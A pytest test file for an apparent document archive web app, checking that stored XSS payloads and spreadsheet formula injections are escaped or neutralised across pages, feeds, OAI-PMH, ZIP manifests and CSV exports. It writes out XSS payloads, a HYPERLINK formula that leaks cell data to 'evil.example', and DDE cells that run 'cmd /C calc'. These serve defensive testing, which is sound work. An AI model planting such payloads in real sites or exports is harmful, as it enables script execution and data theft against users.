"""Stored XSS: hostile text in a title, symbol, agenda item, file name, PDF metadata
(/Title, /Author) and the PDF's own text is shown everywhere as text, never as markup:
pages, search snippets, the Atom feed, OAI-PMH, ZIP manifests and the CSV export. Cells
that a spreadsheet would run as formulas are neutralised in every CSV."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from xml.etree import ElementTree as ET

import pytest
from pypdf import PdfWriter

from tests.auth.staff_helpers import log_in

TITLE = '<script>alert("title")</script>"><img src=x onerror=alert(1)>'
SYMBOL = "<svg/onload=alert('symbol')>"
AGENDA = "</textarea><script>alert('agenda')</script>"
FILENAME = "<img src=x onerror=alert('file')>.pdf"
META_TITLE = "<script>alert('meta-title')</script>"
META_AUTHOR = "<iframe src=javascript:alert('author')>"
TEXT = "Clearance <script>alert('text')</script> and <b onmouseover=alert(2)>victims</b>."
#: what any payload would look like had it reached a page as markup
RAW = [
    "<script>alert",
    "<img src=x",
    "<svg/onload",
    "<iframe src=javascript",
    "<b onmouseover",
    "</textarea><script",
]

FORMULAS = {
    "title": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "symbol": "+1+cmd|' /C calc'!A0",
    "agenda_item": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _with_metadata(pdf: bytes) -> bytes:
    writer = PdfWriter(clone_from=io.BytesIO(pdf))
    writer.add_metadata({"/Title": META_TITLE, "/Author": META_AUTHOR, "/Subject": TEXT})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@pytest.fixture
def hostile(app, make_meeting, upload, pdf_bytes, run_jobs) -> dict:
    make_meeting("12MSP")
    content = _with_metadata(pdf_bytes([TEXT, "A second page on clearance."]))
    response = upload(
        data=content,
        filename=FILENAME,
        title=TITLE,
        symbol=SYMBOL,
        agenda_item=AGENDA,
        delegation="CHL",
        date="2024-09-10",
    )
    assert response.status_code == 201, response.get_json()
    formula = upload(["Formula statement on clearance."], delegation="PER", **FORMULAS)
    assert formula.status_code == 201, formula.get_json()
    run_jobs()
    return {"id": response.get_json()["id"], "formula": formula.get_json()["id"]}


def _no_markup(body: str, where: str) -> None:
    for raw in RAW:
        assert raw not in body, f"{raw!r} unescaped in {where}"
    for payload in (META_TITLE, META_AUTHOR):
        assert payload not in body, where


def test_pages_show_the_payloads_as_text(app, client, hostile):
    doc = hostile["id"]
    for url in (
        f"/documents/{doc}",
        "/meetings/12MSP",
        "/delegations/CHL",
        "/search?q=clearance",
        "/search?q=script",
        "/",
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        _no_markup(response.get_data(as_text=True), url)
    page = client.get(f"/documents/{doc}").get_data(as_text=True)
    assert "&lt;script&gt;alert(&#34;title&#34;)&lt;/script&gt;" in page  # shown, as text


def test_staff_pages_show_the_payloads_as_text(app, client, hostile, make_user):
    make_user("admin@example.org", "admin", "a-long-password")
    log_in(client, "admin@example.org")
    doc = hostile["id"]
    for url in (
        f"/documents/{doc}",
        "/staff/meetings/12MSP",
        f"/staff/documents/{doc}/edit",
        "/staff/audit",
        "/staff/",
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        _no_markup(response.get_data(as_text=True), url)


def test_search_snippets_are_escaped_with_only_mark(client, hostile):
    body = client.get("/api/v1/search", query_string={"q": "clearance"}).get_json()
    [item] = [i for i in body["items"] if i["document_id"] == hostile["id"]]
    assert item["title"] == TITLE  # JSON carries the data as it is
    snippets = " ".join(h["snippet"] for h in item["hits"])
    assert "&lt;script&gt;" in snippets
    assert "<mark>" in snippets
    without_marks = snippets.replace("<mark>", "").replace("</mark>", "")
    assert "<" not in without_marks and ">" not in without_marks


def test_the_atom_feed_carries_the_payloads_as_text(client, hostile):
    for query in ({}, {"q": "clearance"}):
        response = client.get("/feeds/documents.atom", query_string=query)
        assert response.status_code == 200
        root = ET.fromstring(response.data)
        ns = {"a": "http://www.w3.org/2005/Atom"}
        titles = [t.text for t in root.iterfind("a:entry/a:title", ns)]
        assert TITLE in titles
        assert not any(el.tag.endswith(("script", "img", "svg")) for el in root.iter())
        assert all(t.get("type") == "text" for t in root.iterfind("a:entry/a:title", ns))


def test_oai_carries_the_payloads_as_text(client, hostile):
    response = client.get("/oai", query_string={"verb": "ListRecords", "metadataPrefix": "oai_dc"})
    assert response.status_code == 200
    root = ET.fromstring(response.data)
    texts = [el.text for el in root.iter() if el.text]
    assert TITLE in texts
    assert not any(el.tag.endswith(("script", "img", "svg", "iframe")) for el in root.iter())


def _zip(client, url: str) -> zipfile.ZipFile:
    response = client.get(url, buffered=True)
    assert response.status_code == 200, url
    return zipfile.ZipFile(io.BytesIO(response.data))


def test_zip_manifests_carry_the_payloads_as_data(client, hostile):
    for url in (
        "/meetings/12MSP/download.zip",
        "/delegations/CHL/download.zip",
        "/search/download.zip?q=clearance",
    ):
        archive = _zip(client, url)
        rows = list(csv.DictReader(io.StringIO(archive.read("manifest.csv").decode())))
        manifest = json.loads(archive.read("manifest.json"))
        assert TITLE in [r["title"] for r in rows], url
        assert TITLE in [f["title"] for f in manifest["files"]], url
        for name in archive.namelist():  # no hostile name inside the archive
            assert "<" not in name and ".." not in name and not name.startswith("/")


def _csv_rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def _assert_neutral(row: dict) -> None:
    for field, value in FORMULAS.items():
        assert row[field] == "'" + value, (field, row[field])
    for value in row.values():
        assert not value.startswith(("=", "+", "-", "@")), value


def test_csv_exports_neutralise_formulas(client, hostile):
    response = client.get("/meetings/12MSP/documents.csv", buffered=True)
    assert response.status_code == 200
    rows = {int(r["id"]): r for r in _csv_rows(response.get_data(as_text=True))}
    _assert_neutral(rows[hostile["formula"]])
    assert rows[hostile["id"]]["title"] == TITLE
    archive = _zip(client, "/meetings/12MSP/download.zip")
    manifest = _csv_rows(archive.read("manifest.csv").decode())
    [row] = [r for r in manifest if int(r["document_id"]) == hostile["formula"]]
    _assert_neutral(row)
    # JSON keeps the exact value: it is data, not a spreadsheet
    data = json.loads(archive.read("manifest.json"))
    assert FORMULAS["title"] in [f["title"] for f in data["files"]]


def test_the_pdf_metadata_is_never_shown(client, hostile):
    """The archive ignores /Title and /Author: its own metadata comes from the form."""
    body = client.get(f"/api/v1/documents/{hostile['id']}").get_data(as_text=True)
    assert "meta-title" not in body and "author" not in body.lower().replace("authorization", "")
